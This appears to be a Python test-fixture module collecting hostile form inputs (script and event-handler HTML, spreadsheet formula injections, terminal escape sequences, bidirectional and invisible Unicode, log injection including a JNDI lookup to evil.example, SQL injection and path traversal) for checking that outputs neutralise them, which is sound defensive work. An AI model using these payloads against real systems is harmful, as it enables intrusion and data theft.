"""What a hostile enquirer writes into a form: one corpus, tried wherever such text comes out again.

`HOSTILE` are texts by what they would do; `ACTING` are characters that no exit for people shows.
"""

import re
from collections.abc import Mapping

ESC, BEL, CSI, RLO, PDF = "\x1b", "\x07", "\x9b", "\u202e", "\u202c"

HTML: Mapping[str, str] = {
    "a script": "<script>window.bad = 1</script>",
    "an image with a handler": '<img src="data:image/png," onerror="window.bad = 1">',
    "the end of a cell": '</bdi></pre></td></table><h1 onclick="window.bad = 1">Paid</h1>',
    "a drawing": "<svg onload='window.bad = 1'><use href='#x'></use></svg>",
    "a frame": "<iframe srcdoc='<script>parent.bad = 1</script>'></iframe>",
    "a style": "<style>.lr-bad { display: none }</style>",
    "a link that is a script": "<a href='javascript:window.bad = 1'>Details</a>",
    "an attribute's end": "\" onmouseover=\"window.bad = 1\" x='' onfocus='window.bad = 1",
    "a button of the dashboard": '<cwdb-action action="call" endpoint="x">{}</cwdb-action>',
    "escaped twice": "&lt;script&gt;window.bad = 1&lt;/script&gt;&#60;b&#62;",
    "a button in markdown": "[button:primary:Refund](https://evil.example) **bold**",
}
FORMULAS: Mapping[str, str] = {
    "a command": "=cmd|' /C calc'!A0",
    "a sum with a plus": "+1+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "an at": '@SUM(1+1)*HYPERLINK("https://evil.example?"&A1,"Details")',
    "a wide sign": "＝1+1",
    "behind a space": '   =HYPERLINK("https://evil.example")',
    "behind a tab": "\t=1+1",
    "behind a semicolon": "Is it free;=cmd|' /C calc'!A0",
    "in another line": "Is it free?\n=cmd|' /C calc'!A0",
    "behind a quote": '","=1+1',
}
TERMINAL: Mapping[str, str] = {
    "red": f"{ESC}[31mparked{ESC}[0m",
    "an empty screen": f"{ESC}[2J{ESC}[H",
    "a title": f"{ESC}]0;root{BEL}",
    "a link in a terminal": f"{ESC}]8;;https://evil.example{ESC}\\portal{ESC}]8;;{ESC}\\",
    "in one byte": f"{CSI}31mred",
    "a line written over": "created\rparked  ",
    "backspaces": "ok" + "\b" * 20 + "gone",
    "markup": "[red]parked[/red] [blink]now[/blink]",
    "markup without an end": "[bold [/nothing] [/]",
    "a link in markup": "[link=https://evil.example]portal[/link] :skull: [@click=app.quit]x[/]",
}
EYES: Mapping[str, str] = {
    "turned round": f"{RLO}gnp.exe{PDF} invoice",
    "an isolate": "\u2067abc\u2069 \u2066def",
    "marks of direction": "\u200f\u200e\u061cabc",
    "separators of lines": "one\u2028two\u2029three",
    "nothing to be seen": "\u200b\u2060\ufeff",
    "a byte order mark": "\ufeff=1+1",
}
LOGS: Mapping[str, str] = {
    "a line of its own": 'Ann\n{"level":"ERROR","message":"LeadLost","key":"x"}',
    "a line of windows": "Ann\r\nSTART RequestId: 1 Version: $LATEST",
    "a metric of its own": 'Ann\n{"_aws":{"CloudWatchMetrics":[{"Namespace":"LeadRelay"}]},"x":1}',
    "a look-up": "${jndi:ldap://evil.example/a} {{7*7}} %s%n %(levelname)s {0.__class__}",
    "an end": "Ann\x00Example",
    "half a character": "Ann \ud83d Example",
    "a query": "'; DROP TABLE leads; --",
    "a path": "../../../../etc/passwd",
    "very much": "A" * 20_000,
}
HOSTILE: Mapping[str, str] = {**HTML, **FORMULAS, **TERMINAL, **EYES, **LOGS}

ACTING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]"
)


def acting(text: str) -> list[str]:
    """The characters of a text that would do something to a terminal or to an eye."""
    return ACTING.findall(text)
